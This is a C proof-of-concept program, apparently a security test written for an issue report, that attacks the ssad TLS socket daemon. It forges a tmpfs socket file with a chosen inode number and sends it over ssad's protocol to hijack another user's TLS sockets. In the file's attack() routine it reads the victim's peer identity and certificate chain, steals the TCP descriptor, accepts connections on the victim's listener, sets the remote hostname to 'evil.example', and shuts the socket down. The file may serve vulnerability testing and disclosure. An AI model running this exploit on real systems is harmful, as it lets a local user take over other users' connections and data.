/*
 * sec_identity_attack forge SOCKET DIR INODE...: another user's TLS sockets taken over by
 * their inode numbers (issue 13, item 1), as a hostile local user does it, with ssad's own
 * protocol and no libssa.
 *
 * For each INODE (the number of a victim's A, in ascending order) it makes a socket file in
 * DIR, a tmpfs, whose inode numbers count up: unnamed files (O_TMPFILE) use up the numbers
 * before it.  It opens the file O_PATH and sends it to ssad (SOCKET) as the descriptor of
 * each request: lookup, the peer's identity and chain, a dup of the TCP socket (accepting on
 * it when it listens), an option, listen(), shutdown().  Under "== inode N", one line per
 * request: "OK ..." when ssad acted on the victim's socket, else the errno ssad answered.
 */
/* O_PATH, accept4 */
#define _GNU_SOURCE 1

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <unistd.h>

#include <ssa/in_tls.h>

#include "ssa_proto.h"

#define MAX_FILES 20000000UL

static const char *errname(int e)
{
	static char other[64];

	switch (e) {
	case EBADF:
		return "EBADF";
	case ENOTSOCK:
		return "ENOTSOCK";
	case EINVAL:
		return "EINVAL";
	case EOPNOTSUPP:
		return "EOPNOTSUPP";
	case EISCONN:
		return "EISCONN";
	default:
		snprintf(other, sizeof(other), "errno %d (%s)", e, strerror(e));
		return other;
	}
}

/* The inode number the tmpfs at dir gave last (it gives the next one up). */
static unsigned long last_inode(const char *dir)
{
	int fd = open(dir, O_TMPFILE | O_RDWR | O_CLOEXEC, 0600);
	struct stat st;
	unsigned long ino = fd >= 0 && fstat(fd, &st) == 0 ? (unsigned long)st.st_ino : 0;

	if (fd >= 0)
		close(fd);
	return ino;
}

/* A socket file in dir whose inode is ino: the path, or NULL when the tmpfs is past it. */
static const char *forge_inode(const char *dir, unsigned long ino)
{
	static char path[4096];
	unsigned long made = 0, last = 0;
	struct stat st;

	snprintf(path, sizeof(path), "%s/forged", dir);
	/* Unnamed files are the cheapest way up; the shared tmpfs may move meanwhile. */
	while (made < MAX_FILES && (last = last_inode(dir)) != 0 && last + 2 < ino)
		made++;
	if (last >= ino) {
		printf("forge: unreachable: %s is at inode %lu, past %lu\n", dir, last, ino);
		return NULL;
	}
	for (; made < MAX_FILES; made++) {
		unlink(path);
		if (mknod(path, S_IFSOCK | 0600, 0) < 0 || stat(path, &st) < 0) {
			printf("forge: %s: %s\n", path, strerror(errno));
			return NULL;
		}
		if (st.st_ino == ino) {
			printf("forged: inode %lu after %lu files\n", ino, made + 1);
			return path;
		}
		if (st.st_ino > ino) {
			printf("forge: unreachable: %s is at inode %lu, past %lu\n", dir,
			       (unsigned long)st.st_ino, ino);
			unlink(path);
			return NULL;
		}
	}
	printf("forge: unreachable within %lu files\n", MAX_FILES);
	return NULL;
}

static int dial(const char *path)
{
	struct sockaddr_un sun = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

	snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", path);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sun, sizeof(sun)) < 0) {
		printf("dial: %s\n", strerror(errno));
		exit(1);
	}
	return fd;
}

struct answer {
	struct ssa_reply rep;
	char data[16384];
	size_t len;
	int fd; /* sent with the reply, or -1 */
};

/* One request carrying fd; the reply with its data and descriptor.  -1: ssad hung up. */
static int ask(int conn, struct ssa_request *req, const void *data, int fd, struct answer *ans)
{
	char control[CMSG_SPACE(sizeof(int))] = {0};
	struct iovec iov[2] = {{req, sizeof(*req)}, {(void *)data, req->data_len}};
	struct msghdr msg = {.msg_iov = iov,
			     .msg_iovlen = data ? 2 : 1,
			     .msg_control = control,
			     .msg_controllen = sizeof(control)};
	struct iovec riov = {&ans->rep, sizeof(ans->rep)};
	struct msghdr rmsg = {.msg_iov = &riov, .msg_iovlen = 1};
	struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);

	req->magic = SSA_PROTO_MAGIC;
	cm->cmsg_level = SOL_SOCKET;
	cm->cmsg_type = SCM_RIGHTS;
	cm->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(cm), &fd, sizeof(int));
	ans->fd = -1;
	ans->len = 0;
	if (sendmsg(conn, &msg, MSG_NOSIGNAL) < 0)
		return -1;
	memset(control, 0, sizeof(control));
	rmsg.msg_control = control;
	rmsg.msg_controllen = sizeof(control);
	if (recvmsg(conn, &rmsg, MSG_WAITALL | MSG_CMSG_CLOEXEC) != sizeof(ans->rep))
		return -1;
	cm = CMSG_FIRSTHDR(&rmsg);
	if (cm != NULL && cm->cmsg_type == SCM_RIGHTS)
		memcpy(&ans->fd, CMSG_DATA(cm), sizeof(int));
	if (ans->rep.data_len > sizeof(ans->data) - 1)
		return -1;
	if (ans->rep.data_len > 0 &&
	    recv(conn, ans->data, ans->rep.data_len, MSG_WAITALL) != (ssize_t)ans->rep.data_len)
		return -1;
	ans->len = ans->rep.data_len;
	ans->data[ans->len] = '\0';
	return 0;
}

/* "OK" when ssad did what was asked, else its errno; ssad hanging up ends the attack. */
static const char *verdict(int conn, struct ssa_request *req, const void *data, int fd,
			   struct answer *ans)
{
	if (ask(conn, req, data, fd, ans) < 0) {
		printf("ssad hung up\n");
		exit(1);
	}
	return ans->rep.rc < 0 ? errname(ans->rep.err) : "OK";
}

static void get_option(int conn, int fd, const char *what, int name)
{
	struct ssa_request req = {.op = SSA_OP_GETSOCKOPT, .a = IPPROTO_TLS, .b = name, .c = 16000};
	struct answer ans;
	const char *v = verdict(conn, &req, NULL, fd, &ans);

	if (ans.rep.rc == 0)
		printf("%s: OK %zu bytes: %.60s\n", what, ans.len, ans.data);
	else
		printf("%s: %s\n", what, v);
}

/* The victim's TCP socket in our hands: a listener gives us its next connection. */
static void use_stolen_tcp(int t)
{
	struct sockaddr_in a;
	socklen_t len = sizeof(a);
	int listening = 0, c, k;
	socklen_t l = sizeof(listening);

	getsockopt(t, SOL_SOCKET, SO_ACCEPTCONN, &listening, &l);
	getsockname(t, (struct sockaddr *)&a, &len);
	printf("net-fd: OK, a TCP socket %s port %d\n", listening ? "listening on" : "at",
	       ntohs(a.sin_port));
	if (!listening)
		return;
	k = socket(AF_INET, SOCK_STREAM, 0);
	if (k < 0 || connect(k, (struct sockaddr *)&a, sizeof(a)) < 0)
		return;
	c = poll(&(struct pollfd){.fd = t, .events = POLLIN}, 1, 2000) == 1
		? accept4(t, NULL, NULL, SOCK_NONBLOCK)
		: -1;
	printf("stolen accept on the victim's listener: %s\n", c >= 0 ? "OK" : errname(errno));
	if (c >= 0)
		close(c);
	close(k);
}

static void attack(int conn, const char *dir, unsigned long ino)
{
	const char *path;
	struct ssa_request req;
	struct answer ans;
	struct stat st;
	int fd;
	const char *v;

	printf("== inode %lu\n", ino);
	path = forge_inode(dir, ino);
	if (path == NULL)
		return;
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0) {
		printf("open O_PATH: %s\n", strerror(errno));
		exit(1);
	}
	printf("sending an O_PATH descriptor: %s, inode %lu, device %u:%u\n",
	       S_ISSOCK(st.st_mode) ? "a socket file" : "not a socket file",
	       (unsigned long)st.st_ino, major(st.st_dev), minor(st.st_dev));

	req = (struct ssa_request){.op = SSA_OP_LOOKUP};
	v = verdict(conn, &req, NULL, fd, &ans);
	printf("lookup: %s", v);
	if (ans.rep.rc == 0)
		printf(" id=%llu state=%d", (unsigned long long)ans.rep.id, ans.rep.state);
	printf("\n");
	get_option(conn, fd, "peer-identity", TLS_PEER_IDENTITY);
	get_option(conn, fd, "peer-chain", TLS_PEER_CERTIFICATE_CHAIN);

	req = (struct ssa_request){.op = SSA_OP_NET_FD, .a = 2};
	v = verdict(conn, &req, NULL, fd, &ans);
	if (ans.rep.rc == 0 && ans.fd >= 0)
		use_stolen_tcp(ans.fd);
	else
		printf("net-fd: %s\n", ans.rep.rc == 0 ? "OK, no descriptor" : v);
	if (ans.fd >= 0)
		close(ans.fd);

	req = (struct ssa_request){.op = SSA_OP_SETSOCKOPT,
				   .a = IPPROTO_TLS,
				   .b = TLS_REMOTE_HOSTNAME,
				   .data_len = sizeof("evil.example")};
	printf("setsockopt: %s\n", verdict(conn, &req, "evil.example", fd, &ans));
	req = (struct ssa_request){.op = SSA_OP_LISTEN, .a = 4};
	printf("listen: %s\n", verdict(conn, &req, NULL, fd, &ans));
	req = (struct ssa_request){.op = SSA_OP_SHUTDOWN, .a = SHUT_RDWR};
	printf("shutdown: %s\n", verdict(conn, &req, NULL, fd, &ans));
	close(fd);
	unlink(path);
}

int main(int argc, char **argv)
{
	int conn;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc < 5 || strcmp(argv[1], "forge") != 0) {
		fprintf(stderr, "usage: sec_identity_attack forge SOCKET DIR INODE...\n");
		return 2;
	}
	mkdir(argv[3], 0700);
	conn = dial(argv[2]);
	for (int i = 4; i < argc; i++)
		attack(conn, argv[3], strtoul(argv[i], NULL, 10));
	return 0;
}
